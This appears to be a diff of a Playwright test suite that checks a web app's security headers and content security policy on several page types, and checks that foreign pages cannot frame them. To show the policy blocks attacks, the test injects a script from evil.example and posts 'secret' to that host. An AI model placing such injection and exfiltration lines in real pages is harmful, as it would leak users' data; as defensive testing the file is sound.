@@ -6,7 +6,12 @@ import { signInAsOperator } from "../support/operator.ts";
 import { open, PHONE } from "../support/visitor.ts";
 
 /** What a browser makes of our headers, on every kind of page: nothing of the page's own is stopped, everything a stranger might put into it is, and no foreign page frames it. */
-type Kind = { name: string; path: string | ((request: APIRequestContext) => Promise<string>); arrive?: (page: Page, path: string) => Promise<Response | null>; status?: number };
+type Kind = {
+  name: string;
+  path: string | ((request: APIRequestContext) => Promise<string>);
+  arrive?: (page: Page, path: string) => Promise<Response | null>;
+  status?: number;
+};
 const goto: Kind["arrive"] = (page, path) => page.goto(path);
 const token = "of-nobody.0123456789";
 
@@ -24,15 +29,24 @@ const KINDS: readonly Kind[] = [
   { name: "newsletter, confirming", path: `/api/newsletter/confirm?token=${token}` },
   { name: "newsletter, leaving", path: `/api/newsletter/unsubscribe?token=${token}` },
   { name: "newsletter, a broken link", path: "/api/newsletter/confirm?token=x", status: 400 },
-  { name: "the demo shop", path: async (request) => /\/demo-shop\/[^"]+/.exec(await (await request.get("/api/report/example?lang=de")).text())?.[0] ?? "no product" },
-  { name: "the admin area, signed in", path: "/admin/analytics", async arrive(page, path) {
-    await signInAsOperator(page);
-    const answer = await page.goto(path);
-    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-    return answer;
-  } },
+  {
+    name: "the demo shop",
+    path: async (request) =>
+      /\/demo-shop\/[^"]+/.exec(await (await request.get("/api/report/example?lang=de")).text())?.[0] ?? "no product",
+  },
+  {
+    name: "the admin area, signed in",
+    path: "/admin/analytics",
+    async arrive(page, path) {
+      await signInAsOperator(page);
+      const answer = await page.goto(path);
+      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+      return answer;
+    },
+  },
 ];
-const pathOf = async ({ path }: Kind, request: APIRequestContext): Promise<string> => (typeof path === "string" ? path : path(request));
+const pathOf = async ({ path }: Kind, request: APIRequestContext): Promise<string> =>
+  typeof path === "string" ? path : path(request);
 
 declare global {
   // marks a stranger's script would leave, and what the browser stopped
@@ -46,21 +60,34 @@ for (const kind of KINDS) {
   test(`${kind.name}: its headers, its own parts run, a stranger's do not`, async ({ page, request, baseURL }) => {
     await page.addInitScript(() => {
       globalThis.stopped = [];
-      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => globalThis.stopped?.push(`${effectiveDirective} ${blockedURI}`));
+      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+        globalThis.stopped?.push(`${effectiveDirective} ${blockedURI}`),
+      );
     });
     const answer = await (kind.arrive ?? goto)(page, await pathOf(kind, request));
     expect(answer?.status()).toBe(kind.status ?? 200);
     expect(answer?.headers()).toMatchObject({
-      "x-content-type-options": "nosniff", "x-frame-options": "DENY", "cross-origin-opener-policy": "same-origin", "referrer-policy": expect.stringMatching(/^(strict-origin-when-cross-origin|no-referrer)$/),
-      "strict-transport-security": expect.stringMatching(/max-age=\d{8}/), "permissions-policy": expect.stringContaining("geolocation=()"),
-      "content-security-policy": expect.stringMatching(/^default-src '(?:self'.*object-src 'none|none)'.*base-uri 'none'.*frame-ancestors 'none'/),
+      "x-content-type-options": "nosniff",
+      "x-frame-options": "DENY",
+      "cross-origin-opener-policy": "same-origin",
+      "referrer-policy": expect.stringMatching(/^(strict-origin-when-cross-origin|no-referrer)$/),
+      "strict-transport-security": expect.stringMatching(/max-age=\d{8}/),
+      "permissions-policy": expect.stringContaining("geolocation=()"),
+      "content-security-policy": expect.stringMatching(
+        /^default-src '(?:self'.*object-src 'none|none)'.*base-uri 'none'.*frame-ancestors 'none'/,
+      ),
     });
     expect(answer?.headers()["content-security-policy"]).not.toMatch(/script-src[^;]*(unsafe|\*|https?:)/);
     expect(await page.evaluate(() => globalThis.stopped), "nothing of our own is stopped").toEqual([]);
 
     await page.evaluate((origin) => {
       globalThis.strangers = [];
-      const add = (tag: string, attributes: Record<string, string>, text = ""): void => { const element = document.createElement(tag); for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value); element.textContent = text; document.body.append(element); };
+      const add = (tag: string, attributes: Record<string, string>, text = ""): void => {
+        const element = document.createElement(tag);
+        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+        element.textContent = text;
+        document.body.append(element);
+      };
       add("script", {}, "globalThis.strangers.push('inline')");
       add("script", { src: "https://evil.example/x.js" });
       add("script", { src: "data:text/javascript,globalThis.strangers.push('data')" });
@@ -72,7 +99,9 @@ for (const kind of KINDS) {
       document.getElementById("strange")?.click();
       void fetch("https://evil.example/", { method: "POST", body: "secret" }).catch(() => undefined);
     }, baseURL ?? "");
-    await expect.poll(() => page.evaluate(() => [...new Set(globalThis.stopped?.map((one) => one.split(" ")[0]))])).toEqual(expect.arrayContaining(["base-uri", "connect-src", "object-src", "script-src-attr", "script-src-elem"]));
+    await expect
+      .poll(() => page.evaluate(() => [...new Set(globalThis.stopped?.map((one) => one.split(" ")[0]))]))
+      .toEqual(expect.arrayContaining(["base-uri", "connect-src", "object-src", "script-src-attr", "script-src-elem"]));
     expect(await page.evaluate(() => globalThis.strangers)).toEqual([]);
     expect(await page.evaluate(() => document.baseURI)).toContain(baseURL ?? "nowhere");
   });
@@ -81,13 +110,26 @@ for (const kind of KINDS) {
 test("none of them shows in a frame of a foreign page", async ({ page, request, baseURL }) => {
   await signInAsOperator(page);
   const ours = await Promise.all(KINDS.map(async (kind) => `${baseURL}${await pathOf(kind, request)}`));
-  const foreign = createServer(({ url }, response) => response.writeHead(200, { "content-type": "text/html" }).end(url === "/" ? [...ours, "/its-own"].map((src) => `<iframe src="${src.replaceAll("&", "&amp;")}"></iframe>`).join("") : "<p>shown</p>"));
+  const foreign = createServer(({ url }, response) =>
+    response
+      .writeHead(200, { "content-type": "text/html" })
+      .end(
+        url === "/"
+          ? [...ours, "/its-own"].map((src) => `<iframe src="${src.replaceAll("&", "&amp;")}"></iframe>`).join("")
+          : "<p>shown</p>",
+      ),
+  );
   await once(foreign.listen(0, "localhost"), "listening");
   // another name than ours: another site, not only another port
   const home = `http://localhost:${(foreign.address() as AddressInfo).port}`;
   try {
     await page.goto(home);
-    expect(page.frames().slice(1).map((frame) => frame.url())).toEqual([...ours.map(() => "chrome-error://chromewebdata/"), `${home}/its-own`]);
+    expect(
+      page
+        .frames()
+        .slice(1)
+        .map((frame) => frame.url()),
+    ).toEqual([...ours.map(() => "chrome-error://chromewebdata/"), `${home}/its-own`]);
   } finally {
     foreign.close();
   }
